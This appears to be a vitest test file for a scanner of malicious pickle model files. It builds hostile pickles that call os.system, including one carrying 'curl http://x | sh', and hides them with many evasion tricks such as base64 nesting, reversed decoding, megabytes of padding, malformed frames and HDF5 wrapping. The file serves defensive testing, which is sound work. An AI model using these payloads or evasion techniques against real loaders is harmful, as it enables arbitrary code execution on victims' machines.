import { describe, expect, it } from "vitest";
import { OP } from "../../src/formats/pickle/opcodes.js";
import { isAtLeast } from "../../src/rules/severity.js";
import { concat, zeros } from "../builders/bytes.js";
import * as p from "../builders/pickle.js";
import { scanBytes } from "../builders/scan.js";
import { failing } from "./attack.js";

const MALICE = p.osSystem();
/** The calls alone: no PROTO in front, no STOP behind. */
const CALLS = MALICE.subarray(2, -1);
const NOISE = Uint8Array.from({ length: 400 }, (_, i) => (i * 167 + 91) & 0xff);
const PADDING = "A".repeat(5000);

function binbytes(data: Uint8Array): Uint8Array {
  return concat([OP.BINBYTES], p.le(data.length, 4), data);
}

/** As the standard pickler begins it: with a frame from protocol 4 on. */
function inner(protocol: number): Uint8Array {
  const body = protocol < 4 ? concat(CALLS, p.stop) : p.pickle(p.frame(CALLS.length + 1), CALLS, p.stop);
  return concat([0x80, protocol], body);
}

/** A large constant written without spreading it. */
function longText(length: number): Uint8Array {
  return concat([OP.BINUNICODE], p.le(length, 4), "a".repeat(length));
}

describe("an attack by the stream's form", () => {
  failing([
    {
      hope: "what lies behind other bytes is not followed because the pickle breaks after its payload",
      name: "weights.bin",
      bytes: () => concat(NOISE, MALICE.subarray(0, -1), [0xff], NOISE),
    },
    {
      hope: "a pickle without an extension is not recognised because it breaks after its payload",
      name: "weights.bin",
      bytes: () => concat([0x80, 2], "cos\nsystem\n(S'id'\ntR", "c!!\n??\n", [0xff, 0xfe]),
    },
    {
      hope: "a pickle without PROTO begins with an opcode that nobody expects first",
      name: "weights.bin",
      bytes: () => concat(binbytes(zeros(4)), CALLS, p.stop),
    },
    {
      hope: "a pickle without PROTO begins with a line longer than detection reads",
      name: "weights.bin",
      bytes: () => concat(`S'${PADDING}'\n`, CALLS, p.stop),
    },
    {
      hope: "a pickle without PROTO begins with a constant of two megabytes",
      name: "weights.bin",
      bytes: () => concat(longText(2 << 20), CALLS, p.stop),
    },
    {
      hope: "a GLOBAL behind a long constant, without PROTO and without an extension",
      name: "pytorch_model",
      bytes: () => concat(longText(5000), "cos\nsystem\n(S'id'\ntR."),
    },
    ...[2, 3, 4, 5].flatMap((protocol) => [
      {
        hope: `a pickle of protocol ${protocol} in base64 is taken for a text`,
        bytes: () => p.pickle(p.proto(4), p.text(Buffer.from(inner(protocol)).toString("base64")), p.stop),
        least: "critical" as const,
        rule: "pickle/unsafe-call",
      },
      {
        hope: `a pickle of protocol ${protocol} in hex is taken for a text`,
        bytes: () => p.pickle(p.proto(4), p.text(Buffer.from(inner(protocol)).toString("hex")), p.stop),
        least: "critical" as const,
        rule: "pickle/unsafe-call",
      },
    ]),
    {
      hope: "a pickle in base64 is put together at load time, from its last byte to its first",
      bytes: () => {
        const reversed = [...Buffer.from(MALICE).toString("base64")].reverse().join("");
        const backwards = [p.global("builtins", "slice"), p.none, p.none, p.int(-1), p.tuple3, p.reduce];
        const text = [p.global("operator", "getitem"), p.text(reversed), ...backwards, p.tuple2, p.reduce];
        return p.pickle(p.proto(4), p.global("base64", "b64decode"), ...text, p.tuple1, p.reduce, p.stop);
      },
      least: "critical",
      rule: "pickle/nested-pickle",
    },
    {
      hope: "the payload lies behind ten megabytes of harmless opcodes",
      bytes: () => concat([0x80, 4], Buffer.alloc(10 << 20, Buffer.from([OP.NONE, OP.POP])), CALLS, p.stop),
      least: "critical",
    },
    {
      hope: "the arguments are forgotten because two million values lie between them and the call",
      bytes: () =>
        concat(
          [0x80, 4],
          p.text("posixpath_made_up"),
          p.text("run"),
          p.stackGlobal,
          p.text("curl http://x | sh"),
          p.tuple1,
          Buffer.alloc(3 << 20, Buffer.from([OP.NONE, OP.TUPLE1, OP.POP])),
          p.reduce,
          p.stop,
        ),
    },
    {
      hope: "getattr's arguments are forgotten before it is called",
      bytes: () =>
        concat(
          [0x80, 4],
          p.text("builtins"),
          p.text("getattr"),
          p.stackGlobal,
          p.mark,
          p.text("builtins"),
          p.text("int"),
          p.stackGlobal,
          p.text("__globals__"),
          p.tuple,
          Buffer.alloc(3 << 20, Buffer.from([OP.NONE, OP.TUPLE1, OP.POP])),
          p.reduce,
          p.stop,
        ),
    },
    {
      hope: "_codecs.encode's forgotten arguments pass for none",
      bytes: () =>
        concat(
          [0x80, 4],
          p.text("_codecs"),
          p.text("encode"),
          p.stackGlobal,
          p.mark,
          p.text("x"),
          p.text("unicode_escape"),
          p.tuple,
          Buffer.alloc(3 << 20, Buffer.from([OP.NONE, OP.TUPLE1, OP.POP])),
          p.reduce,
          p.stop,
        ),
    },
    {
      hope: "the wrapped function of partial is forgotten before it is called",
      bytes: () =>
        concat(
          [0x80, 4],
          p.text("itertools"),
          p.text("groupby"),
          p.stackGlobal,
          p.mark,
          p.text("x"),
          p.text("torch.utils.made_up"),
          p.text("run_it"),
          p.stackGlobal,
          p.tuple,
          Buffer.alloc(3 << 20, Buffer.from([OP.NONE, OP.TUPLE1, OP.POP])),
          p.reduce,
          p.stop,
        ),
    },
    {
      hope: "a planted method lies behind more opcodes than the ring of values remembers",
      bytes: () =>
        concat(
          [0x80, 4],
          p.text("sklearn.made_up"),
          p.text("Model"),
          p.stackGlobal,
          [OP.EMPTY_TUPLE],
          p.newobj,
          [OP.EMPTY_DICT],
          p.text("__reduce_ex__"),
          p.text("torch.utils.made_up"),
          p.text("run_it"),
          p.stackGlobal,
          p.setitem,
          Buffer.alloc(3 << 20, Buffer.from([OP.NONE, OP.TUPLE1, OP.POP])),
          p.build,
          p.stop,
        ),
    },
    {
      hope: "256 nested constants hide the 257th",
      bytes: () =>
        concat(
          [0x80, 4],
          ...Array.from({ length: 300 }, () => p.bytes(p.pickle(p.proto(4), p.int(1), p.stop))),
          p.bytes(MALICE),
          p.stop,
        ),
    },
    {
      hope: "200 harmless remarks hide an overwritten module",
      bytes: () =>
        concat(
          [0x80, 4],
          ...Array.from({ length: 250 }, (_, i) => p.pickle(p.text(`http://example${i}.org/x`), p.pop)),
          ...Array.from({ length: 250 }, (_, i) => p.ext1(i % 200)),
          p.text("torch.nn.functional"),
          p.text("linear"),
          p.stackGlobal,
          [OP.EMPTY_DICT],
          p.text("__code__"),
          p.none,
          p.setitem,
          p.build,
          p.stop,
        ),
      rule: "pickle/state-overwrite",
    },
    {
      hope: "1000 pickles in front hide the last",
      bytes: () => concat(...Array.from({ length: 1100 }, () => p.pickle(p.proto(2), p.none, p.stop)), MALICE),
    },
    {
      hope: "2000 false beginnings use up the trials",
      name: "weights.bin",
      bytes: () => concat(Buffer.alloc(4 * 2500, Buffer.from([0x80, 2, 0xff, 0xfe])), MALICE),
    },
    {
      hope: "65536 names use up the table of names, and the next is os.system",
      bytes: () =>
        concat(
          [0x80, 4],
          Buffer.concat(Array.from({ length: 65540 }, (_, i) => Buffer.from(`ccollections\nn${i}\n0`))),
          CALLS,
          p.stop,
        ),
    },
    {
      hope: "a hundred anomalies stop the machine before the payload",
      bytes: () => concat([0x80, 4], Buffer.alloc(40_000, OP.POP), CALLS, p.stop),
    },
    {
      hope: "an unknown opcode stops the machine and the payload behind it has no PROTO",
      bytes: () => concat([0x80, 4], p.none, [0xff], CALLS, p.stop),
    },
    {
      hope: "a length that lies by one swallows the payload",
      bytes: () => concat([0x80, 4], [OP.SHORT_BINUNICODE, 200], CALLS, p.stop),
    },
    {
      hope: "the frame's length differs from its content, and loaders disagree about where to go on",
      bytes: () => concat([0x80, 4], p.frame(3), p.bytes(concat("xx", MALICE)), p.stop),
    },
    {
      hope: "the last line has no newline, which C refuses and joblib's and dill's unpickler does not mind",
      bytes: () => concat(p.mark, p.text("id"), [OP.INST], "os\nsystem\r"),
      least: "critical",
      rule: "pickle/unsafe-call",
    },
    {
      hope: "a payload hides in a text that latin-1 turns into bytes",
      bytes: () => p.pickle(p.proto(4), p.text(Buffer.from(MALICE).toString("latin1")), p.stop),
    },
    {
      hope: "a payload hides in base64 that a harmless loader decodes",
      bytes: () => p.pickle(p.proto(4), p.text(Buffer.from(MALICE).toString("base64")), p.stop),
    },
    {
      hope: "a payload hides three constants deep",
      bytes: () => [1, 2, 3].reduce((inner) => p.pickle(p.proto(4), p.bytes(inner), p.stop), MALICE),
    },
    {
      hope: "twenty constants deep, no scanner follows",
      bytes: () =>
        Array.from({ length: 20 }).reduce<Uint8Array>((inner) => concat([0x80, 4], binbytes(inner), p.stop), MALICE),
    },
    {
      hope: "an HDF5 file's user block is a pickle whose payload lies behind the HDF5 data",
      name: "model.h5",
      bytes: () => {
        const hdf5 = concat("\x89HDF\r\n\x1a\n".replace("\x89", ""), zeros(600));
        return concat([OP.BINBYTES], p.le(507 + hdf5.length, 4), zeros(507), hdf5, CALLS, p.stop);
      },
    },
  ]);

  it("does not call 40 MB of unknown data examined, in the middle of which a pickle may lie", async () => {
    const data = Buffer.alloc(40 << 20, Buffer.from([0xfe, 0xfd]));
    data.set(MALICE, 20 << 20);
    expect((await scanBytes("weights.bin", data)).state).toBe("skipped");
  });

  it("does not take a vocabulary for a hidden pickle", async () => {
    const words = [
      "could",
      "see",
      "Virginia",
      "which",
      "cat",
      "dog",
      "In",
      "century",
      "old",
      "New",
      "could",
      "be",
      "(",
      "x",
    ];
    const { findings } = await scanBytes("vocab.txt", words.join("\n").repeat(50));
    expect(findings.filter(({ severity }) => isAtLeast(severity, "medium"))).toEqual([]);
  });
});
